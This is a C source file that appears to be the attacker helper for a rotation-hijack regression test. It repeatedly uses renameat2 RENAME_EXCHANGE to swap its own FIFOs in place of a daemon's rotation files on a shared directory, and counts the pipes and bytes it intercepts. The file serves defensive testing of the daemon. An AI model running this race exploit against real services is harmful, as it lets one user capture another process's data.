/*
 * The attacker of rotation-hijack.test.ts, run as another user who can write the mount's directory: in a tight
 * loop, it lists the directory for the daemon's rotation names (and tries the bare prefix, the name a daemon that
 * does not randomize would use) and exchanges a FIFO of its own in under each with renameat2(RENAME_EXCHANGE),
 * holding every FIFO it made open for reading and counting the bytes any of them receives. On SIGTERM it prints
 * "exchanges stolen bytes": `stolen` counts the exchanges that took out a pipe of someone else (the daemon's).
 * Usage: hijack-attacker DIR PREFIX
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <poll.h>
#include <signal.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#define KEEP 256

static volatile sig_atomic_t stop;
static int fds[KEEP], nfds, made;
static char mine[4096];
static long received;

static void on_term(int sig) {
  (void)sig;
  stop = 1;
}

static void fresh(const char *dir) {
  snprintf(mine, sizeof mine, "%s/.attacker-%d-%d", dir, getpid(), ++made);
  mkfifo(mine, 0666);
  if (nfds == KEEP) {
    close(fds[0]);
    memmove(fds, fds + 1, sizeof fds[0] * (KEEP - 1));
    nfds--;
  }
  fds[nfds++] = open(mine, O_RDONLY | O_NONBLOCK);
}

static void drain(void) {
  char buf[65536];
  for (int i = 0; i < nfds; i++) {
    ssize_t n = read(fds[i], buf, sizeof buf);
    if (n > 0) received += n;
  }
}

static int exchange(const char *target, long *stolen) {
  if (renameat2(AT_FDCWD, mine, AT_FDCWD, target, RENAME_EXCHANGE) != 0) return 0;
  struct stat st;
  if (lstat(mine, &st) == 0 && st.st_uid != geteuid()) (*stolen)++;
  return 1;
}

int main(int argc, char **argv) {
  if (argc != 3) return 2;
  const char *dir = argv[1], *prefix = argv[2];
  size_t plen = strlen(prefix);
  signal(SIGTERM, on_term);
  fresh(dir);
  printf("ready\n");
  fflush(stdout);
  long exchanges = 0, stolen = 0;
  char bare[4096], target[4096];
  snprintf(bare, sizeof bare, "%s/%s", dir, prefix);
  for (long round = 0; !stop; round++) {
    for (int i = 0; i < 16; i++)
      if (exchange(bare, &stolen)) exchanges++, fresh(dir);
    DIR *d = opendir(dir);
    struct dirent *e;
    while (d != NULL && (e = readdir(d)) != NULL) {
      if (strncmp(e->d_name, prefix, plen) != 0 || e->d_name[plen] == 0) continue;
      snprintf(target, sizeof target, "%s/%s", dir, e->d_name);
      if (exchange(target, &stolen)) exchanges++, fresh(dir);
    }
    if (d != NULL) closedir(d);
    if (round % 64 == 0) drain();
  }
  drain();
  printf("%ld %ld %ld\n", exchanges, stolen, received);
  return 0;
}
